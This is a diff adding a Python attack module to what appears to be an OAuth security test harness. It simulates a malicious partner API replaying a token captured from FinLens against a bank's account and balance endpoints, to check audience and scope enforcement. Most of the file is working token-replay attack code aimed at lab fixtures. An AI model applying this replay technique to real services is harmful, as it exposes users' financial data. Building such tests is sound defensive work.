@@ -1,0 +1,64 @@
+"""token-wrong-audience: PartnerRewards replays at the bank the token FinLens gave it.
+
+attacks.md §3 A (BCP §4.9.1 "malicious resource server", BCP A5). FinLens's Rewards page
+asks the honest AS for a PartnerRewards token (a refresh narrowed to rewards:read with
+`resource` = the partner, RFC 8707 §2.2) and sends it to PartnerRewards, which is the
+attacker. PartnerRewards cannot make a DPoP proof, so it forwards what it received to
+GET /accounts at the bank. aud_check: the token names PartnerRewards, not the bank
+(RFC 9068 §4); scope_check: rewards:read opens no bank endpoint (RFC 6750 §3.1).
+"""
+
+from __future__ import annotations
+
+from typing import Any
+
+from attacker import fixtures
+from attacker.context import AttackContext
+from attacker.model import Attack
+from attacker.premises import linked_victim
+
+
+def run(ctx: AttackContext) -> None:
+    fx = fixtures.ensure_running(ctx)
+    since = fx.mark()
+    victim = linked_victim(ctx)
+    page = victim.http.get(victim.browser.url("/rewards"), timeout=60)
+    ctx.note_request(page, actor="victim")
+    ctx.step("victim", "opens FinLens's Rewards page: FinLens asks PartnerRewards for the "
+             "points", status=page.status_code)
+    calls = [r for r in fx.received(ctx, "partner", since=since, path="/points")
+             if r.header("Authorization")]
+    if not calls:
+        ctx.failed("FinLens sent PartnerRewards no token")
+    received = calls[-1]
+    ctx.step("attacker", "PartnerRewards keeps the Authorization header FinLens sent it")
+    headers = {"Authorization": received.header("Authorization") or ""}
+    if received.header("DPoP"):
+        headers["DPoP"] = received.header("DPoP") or ""   # the only proof it has
+    listed = ctx.send("GET", ctx.url("bank", "/accounts"), headers=headers,
+                      what="PartnerRewards sends the token to the bank: GET /accounts")
+    if listed.status_code != 200:
+        ctx.failed("the bank refused the partner's token", listed)
+    accounts = listed.json().get("accounts") or []
+    if not accounts:
+        ctx.failed("the partner's token listed no accounts", listed)
+    balances: dict[str, Any] = {}
+    for account in accounts:
+        account_id = account.get("account_id")
+        r = ctx.send("GET", ctx.url("bank", f"/accounts/{account_id}/balances"),
+                     headers=headers, what=f"GET /accounts/{account_id}/balances")
+        if r.status_code != 200:
+            ctx.failed("the bank refused the partner's token", r)
+        balances[str(account_id)] = r.json()
+    ctx.succeeded(f"PartnerRewards read the balances of {len(balances)} of "
+                  f"{victim.username}'s accounts", balances)
+
+
+ATTACK = Attack(
+    id="token-wrong-audience", attacker="A1 running PartnerRewards (BCP A5)", legs=("own",),
+    victim="prior",
+    premise="Runs PartnerRewards, a partner API FinLens calls with a token from the honest AS; "
+            "keeps what it receives. Cannot make DPoP proofs for FinLens's key.",
+    goal="the victim's balances, read by PartnerRewards at the bank", run=run,
+    refs=("BCP §4.9.1", "BCP §4.10.2", "RFC 8707 §2", "RFC 9068 §4", "RFC 6750 §3.1"),
+)
